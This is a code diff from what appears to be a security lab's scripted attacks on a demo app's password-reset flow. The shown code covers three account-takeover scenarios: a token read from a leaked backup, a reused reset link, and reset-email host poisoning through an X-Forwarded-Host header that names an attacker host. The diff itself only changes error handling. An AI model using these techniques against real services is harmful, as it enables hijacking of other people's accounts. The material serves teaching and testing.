@@ -1,5 +1,5 @@
 import type { JsonAnswer } from '../../../core/scripted-browser';
-import type { AttackRunContext, ServerAttack } from '../../attack-kit';
+import { cannotRun, type AttackRunContext, type ServerAttack } from '../../attack-kit';
 import { STOLEN_PASSWORD, appApi, resetLinkTo, tag, tokenOfLink, type AppApi } from './scene';
 
 const said = (res: { status: number; body: JsonAnswer }) =>
@@ -27,7 +27,7 @@ export const resetLeakedToken: ServerAttack = {
     const row = (Array.isArray(rows.body) ? (rows.body as Array<{ email: string; tokenKey: string }>) : []).find(
       (r) => r.email === victim.email,
     );
-    if (!row) throw new Error('The reset link was not stored.');
+    if (!row) throw cannotRun('the reset link was not stored.');
     run.say(`The attacker reads the password_resets table from a leaked backup: ${row.tokenKey.slice(0, 12)}…`);
     const succeeded = await takeOver(run, api, victim.email, row.tokenKey);
     return {
@@ -47,10 +47,10 @@ export const resetReusedLink: ServerAttack = {
     run.say(`Made a victim account ${victim.email}.`);
     await api.post('/api/password/forgot', { email: victim.email });
     const token = tokenOfLink((await resetLinkTo(api, victim.email)) ?? '');
-    if (!token) throw new Error('No reset mail arrived.');
+    if (!token) throw cannotRun('no reset mail arrived.');
     const first = await api.post('/api/password/reset', { token, password: `victim new pass ${tag()}` });
     run.say(`The victim used the mailed link to set a new password: ${said(first)}.`);
-    if (first.status !== 200) throw new Error(`The victim's own reset failed (${said(first)}).`);
+    if (first.status !== 200) throw cannotRun(`the victim's own reset failed (${said(first)}).`);
     run.say('Later the attacker finds the same link in the browser history of a shared computer.');
     const succeeded = await takeOver(run, api, victim.email, token);
     return {
@@ -70,7 +70,7 @@ export const resetHostPoisoning: ServerAttack = {
     await api.post('/api/password/forgot', { email: victim.email }, { 'x-forwarded-host': attackerHost });
     run.say(`The attacker asked for a reset of ${victim.email} with "X-Forwarded-Host: ${attackerHost}".`);
     const link = (await resetLinkTo(api, victim.email)) ?? '';
-    if (!link) throw new Error('No reset mail arrived.');
+    if (!link) throw cannotRun('no reset mail arrived.');
     run.say(`The victim got a genuine mail from the lab, with the link ${link.replace(/token=.*/, 'token=…')}`);
     if (new URL(link).origin !== new URL(attacker).origin) {
       return {
